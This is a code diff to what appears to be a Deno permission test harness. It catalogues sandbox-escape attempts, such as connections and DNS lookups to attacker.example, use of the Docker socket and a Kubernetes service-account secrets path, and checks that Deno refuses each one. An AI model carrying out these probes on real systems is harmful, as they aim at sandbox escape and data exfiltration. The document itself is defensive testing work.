@@ -4,6 +4,8 @@
  * Whatever it aims at is loopback or set aside for documentation (RFC 5737, RFC 6761), and it starts
  * only where there is no network at all.
  */
+import type { Socket } from "node:dgram";
+
 const SERVICE_ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount";
 
 /** A specifier that no static analysis sees, since what it finds is part of the program. */
@@ -31,8 +33,10 @@ const CONNECTING: Record<string, () => unknown> = {
   "connect by TCP": () => Deno.connect({ hostname: "192.0.2.1", port: 443 }),
   "connect by TCP to loopback": () => Deno.connect({ hostname: "127.0.0.1", port: 9 }),
   "connect by TLS": () => Deno.connectTls({ hostname: "attacker.example", port: 443 }),
-  "connect by QUIC": () =>
-    Deno.connectQuic({ hostname: "attacker.example", port: 443, alpnProtocols: ["h3"] }),
+  "connect by QUIC": () => {
+    demand("connectQuic");
+    return Deno.connectQuic({ hostname: "attacker.example", port: 443, alpnProtocols: ["h3"] });
+  },
   "connect to a Unix socket": () => Deno.connect({ transport: "unix", path: "/run/docker.sock" }),
   "connect to an abstract Unix socket": () =>
     Deno.connect({ transport: "unix", path: "\0attacker" }),
@@ -53,7 +57,10 @@ const CONNECTING: Record<string, () => unknown> = {
   "fetch through a Unix socket": () =>
     Deno.createHttpClient({ proxy: { transport: "unix", path: "/run/docker.sock" } }),
   "open a WebSocket": () => openWebSocket("wss://attacker.example/"),
-  "open a WebSocketStream": () => new WebSocketStream("wss://attacker.example/").opened,
+  "open a WebSocketStream": () => {
+    demand("WebSocketStream", globalThis);
+    return new WebSocketStream("wss://attacker.example/").opened;
+  },
   "resolve a name by a chosen server": () =>
     Deno.resolveDns("data.attacker.example", "A", {
       nameServer: { ipAddr: "192.0.2.53", port: 53 },
@@ -70,9 +77,16 @@ const LISTENING: Record<string, () => unknown> = {
   "listen on another port": () => Deno.listen({ hostname: "0.0.0.0", port: 9999 }),
   "listen on any port": () => Deno.listen({ hostname: "127.0.0.1", port: 0 }),
   "listen for HTTP": () => Deno.serve({ hostname: "127.0.0.1", port: 9999 }, () => new Response()),
-  "listen by QUIC": () => new Deno.QuicEndpoint({ hostname: "127.0.0.1", port: 9999 }),
-  "listen for datagrams": () =>
-    Deno.listenDatagram({ hostname: "127.0.0.1", port: 9999, transport: "udp" }),
+  "listen by QUIC": () => {
+    demand("QuicEndpoint");
+    return new Deno.QuicEndpoint({ hostname: "127.0.0.1", port: 9999 });
+  },
+  "listen for datagrams": () => {
+    demand("listenDatagram");
+    return Deno.listenDatagram({ hostname: "127.0.0.1", port: 9999, transport: "udp" });
+  },
+  "listen for datagrams by node:dgram": () => listenForDatagrams(9999),
+  "listen for datagrams on a port of the program": () => listenForDatagrams(8081),
   "listen on a Unix socket": () => Deno.listen({ transport: "unix", path: "/tmp/attack.sock" }),
   "listen by node:net": async () => {
     const server = (await import("node:net")).createServer();
@@ -151,9 +165,8 @@ const FILES: Record<string, () => unknown> = {
   "make a temporary file by SQLite where nothing can be written": () =>
     spillInto(Deno.env.get("HOME")!),
   "keep something in Deno KV": async () => {
-    // It is there only behind a flag of Deno's.
-    const { openKv } = Deno as unknown as { openKv?: (path: string) => Promise<unknown> };
-    if (openKv === undefined) throw new Deno.errors.NotCapable("Deno has no openKv");
+    demand("openKv");
+    const { openKv } = Deno as unknown as { openKv: (path: string) => Promise<unknown> };
     await openKv("/tmp/attack.kv");
   },
   "keep something in localStorage": () => localStorage.setItem("key", "value"),
@@ -251,43 +264,66 @@ function openWebSocket(url: string): Promise<void> {
   });
 }
 
-async function sendDatagram(): Promise<void> {
+/** What is there only behind a flag of Deno's, under which the executable must not run. */
+function demand(name: string, holder: object = Deno): void {
+  if (name in holder) return;
+  throw new Deno.errors.NotCapable(`Deno has no ${name}`);
+}
+
+async function bound(port: number, hostname: string): Promise<Socket> {
   const { createSocket } = await import("node:dgram");
   const socket = createSocket("udp4");
-  await new Promise<void>((resolve, reject) => {
+  socket.bind(port, hostname);
+  await emitted(socket);
+  return socket;
+}
+
+/** The port is free again only when the socket has closed. */
+function closed(socket: Socket): Promise<void> {
+  return new Promise((resolve) => socket.close(resolve));
+}
+
+async function listenForDatagrams(port: number): Promise<void> {
+  await closed(await bound(port, "127.0.0.1"));
+}
+
+/** Answers, or rejects, once a datagram to the port 9 of `hostname` has been handed over. */
+function sent(socket: Socket, hostname: string): Promise<void> {
+  return new Promise<void>((resolve, reject) => {
     // The socket binds itself on a later turn.
     late = reject;
-    socket.send("data", 53, "192.0.2.53", (error) => error ? reject(error) : resolve());
+    socket.send("data", 9, hostname, (error) => error ? reject(error) : resolve());
   });
 }
 
+async function sendDatagram(): Promise<void> {
+  const { createSocket } = await import("node:dgram");
+  await sent(createSocket("udp4"), "192.0.2.53");
+}
+
+/** To loopback, where nothing but Deno could stop it. */
 async function sendFrom(port: number): Promise<void> {
-  const socket = Deno.listenDatagram({ hostname: "0.0.0.0", port, transport: "udp" });
-  try {
-    const to = { hostname: "192.0.2.53", port: 53, transport: "udp" } as const;
-    await socket.send(new Uint8Array(1), to);
-  } finally {
-    socket.close();
-  }
+  const socket = await bound(port, "0.0.0.0");
+  await sent(socket, "127.0.0.1").finally(() => closed(socket));
 }
 
 /** Asks a port of its own on loopback, and waits no longer than until the question has come. */
 async function resolveBy(port: number): Promise<void> {
   const hostname = "127.0.0.1";
-  const server = Deno.listenDatagram({ hostname, port, transport: "udp" });
+  const server = await bound(port, hostname);
   const waiting = new AbortController();
   try {
     const asked = Deno.resolveDns("data.attacker.example", "A", {
       nameServer: { ipAddr: hostname, port },
       signal: waiting.signal,
     });
-    await Promise.race([server.receive(), asked]);
+    await Promise.race([new Promise((resolve) => server.once("message", resolve)), asked]);
     waiting.abort();
     await asked.catch((error) => {
       if (!waiting.signal.aborted) throw error;
     });
   } finally {
-    server.close();
+    await closed(server);
   }
 }
 
@@ -318,8 +354,9 @@ async function moreRights(wish: Deno.PermissionDescriptor): Promise<void> {
 
 type Outcome = "done" | "refused" | "failed";
 
-/** `--no-npm` forbids what no permission governs; node:dns has its own word for a refusal. */
-const REFUSAL = /NotCapable|Requires \w+ access|--no-npm is specified|getaddrinfo EPERM|max 0$/;
+/** `--no-npm` forbids what no permission governs; node:dns and node:dgram have their own words. */
+const REFUSAL =
+  /NotCapable|Requires \w+ access|--no-npm is specified|getaddrinfo EPERM|send UNKNOWN|max 0$/;
 
 /** Says whether Deno refused, and in whose words. */
 async function outcome(attempt: () => unknown): Promise<{ outcome: Outcome; how: string }> {
